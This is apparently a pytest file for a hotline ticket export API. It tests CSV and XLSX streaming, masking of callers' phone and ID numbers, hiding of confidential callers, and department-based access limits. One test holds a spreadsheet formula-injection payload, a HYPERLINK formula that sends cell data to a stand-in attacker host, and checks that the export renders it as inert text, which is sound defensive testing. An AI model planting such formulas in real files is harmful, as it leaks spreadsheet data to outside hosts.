"""The ticket export: 12345 tickets as streamed CSV and XLSX, callers masked (a confidential caller
not shown at all), a handler limited to the tickets their department leads."""

import csv
import io

import factories as f
import hotline_factories as hf
import openpyxl
import pytest

from core.calendar import local_date
from core.db import utcnow
from core.models import Role
from reports.stats import exports

CONTENT = "来电人13812345678反映，身份证460100199001011234，小区夜间施工噪音扰民。"


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.response).decode("utf-8-sig"))))


def _url(fmt: str = "csv", **params: str) -> str:
    day = local_date(utcnow()).isoformat()
    query = "&".join(f"{k}={v}" for k, v in {"from": day, "to": day, "format": fmt, **params}.items())
    return f"/api/v1/stats/tickets/export?{query}"


def test_tickets_stream_masked(client):
    dept, other = f.department(), f.department()
    manager = f.user(Role.MANAGER)
    closed, _ = hf.closed(dept, content=CONTENT, address="海口市美兰区白沙门路1号")
    secret = hf.ticket(dept=dept, confidential=True, caller_name="李秘密", caller_phone="13911112222")
    elsewhere = hf.ticket(dept=other)
    response = client.get(_url(), headers=f.bearer(manager))
    assert response.status_code == 200 and response.is_streamed
    day = local_date(utcnow()).isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="tickets-{day}-{day}.csv"'
    rows = _csv(response)
    assert rows[0] == exports.titles(exports.TICKET_COLUMNS)
    by_number = {r[0]: dict(zip(exports.TICKET_HEADER, r, strict=True)) for r in rows[1:]}
    assert set(by_number) == {closed.number, secret.number, elsewhere.number}
    row = by_number[closed.number]
    assert row["caller_name"] == "张**" and row["caller_phone"] == "138****5678"
    assert row["address"] == "海口市美兰区…" and row["lead_department"] == dept.code
    assert row["lead_department_name"] == dept.name
    assert row["closed_on_time"] == "是" and float(row["handling_working_hours"]) >= 0
    assert "13812345678" not in row["content"] and "460100199001011234" not in row["content"]
    hidden = by_number[secret.number]
    assert hidden["caller_name"] == "" and hidden["caller_phone"] == "" and hidden["closed_at"] == ""
    text = "\n".join(",".join(r) for r in rows)
    assert "13812345678" not in text and "张三丰" not in text and "李" not in text and "13911112222" not in text


def test_a_handler_exports_their_own_department(client):
    dept, other = f.department(), f.department()
    handler = f.user(Role.HANDLER, dept)
    mine = hf.ticket(dept=dept)
    hf.ticket(dept=other)
    rows = _csv(client.get(_url(), headers=f.bearer(handler)))
    assert [r[0] for r in rows[1:]] == [mine.number]
    assert client.get(_url(department=other.code), headers=f.bearer(handler)).status_code == 404
    assert client.get(_url(), headers=f.bearer(f.user(Role.AGENT))).status_code == 403
    assert client.get(_url()).status_code == 401


def test_the_filters_apply(client):
    dept = f.department()
    manager = f.user(Role.MANAGER)
    help_ticket = hf.ticket(dept=dept, type="help", is_enterprise=True)
    hf.ticket(dept=dept)
    rows = _csv(client.get(_url(department=dept.code, type="help"), headers=f.bearer(manager)))
    assert [r[0] for r in rows[1:]] == [help_ticket.number]
    rows = _csv(client.get(_url(department=dept.code, enterprise="true"), headers=f.bearer(manager)))
    assert [r[0] for r in rows[1:]] == [help_ticket.number]
    assert client.get(_url(format="pdf"), headers=f.bearer(manager)).status_code == 422


def test_xlsx_opens_in_a_spreadsheet_library(client):
    dept = f.department()
    made, _ = hf.closed(dept)
    response = client.get(_url("xlsx", department=dept.code), headers=f.bearer(f.user(Role.MANAGER)))
    assert response.status_code == 200
    assert response.mimetype == exports.MEDIA_TYPES["xlsx"]
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.response)), read_only=True)
    rows = [list(r) for r in book.active.iter_rows(values_only=True)]
    assert rows[0] == exports.titles(exports.TICKET_COLUMNS)
    assert len(rows) == 2 and rows[1][0] == made.number
    row = dict(zip(exports.TICKET_HEADER, rows[1], strict=True))
    assert row["caller_phone"] == "138****5678" and row["caller_name"] == "张**"


@pytest.mark.parametrize("batch", [1, 2, 1000])
def test_ticket_rows_come_in_keyset_batches(ctx, batch):
    from reports.stats.kpis import KpiFilters

    dept = f.department()
    made = [hf.ticket(dept=dept) for _ in range(3)]
    day = local_date(utcnow())
    rows = list(exports.ticket_rows(KpiFilters(day, day, department_id=dept.id), batch=batch))
    assert [r[0] for r in rows] == [t.number for t in made]


def test_a_formula_in_a_ticket_is_inert_text(client):
    """Issue 14: an Open311 description (here: the ticket's content) `=HYPERLINK(...)` stays text."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    dept, manager = f.department(), f.user(Role.MANAGER)
    hf.ticket(dept=dept, content=formula, category="@SUM(1,2)")
    column = exports.TICKET_HEADER.index("content")
    rows = _csv(client.get(_url(department=dept.code), headers=f.bearer(manager)))
    assert rows[1][column] == "'" + formula
    assert rows[1][exports.TICKET_HEADER.index("category")] == "'@SUM(1,2)"
    data = b"".join(client.get(_url("xlsx", department=dept.code), headers=f.bearer(manager)).response)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.value for c in cells if c.value == formula] and all(c.data_type != "f" for c in cells)
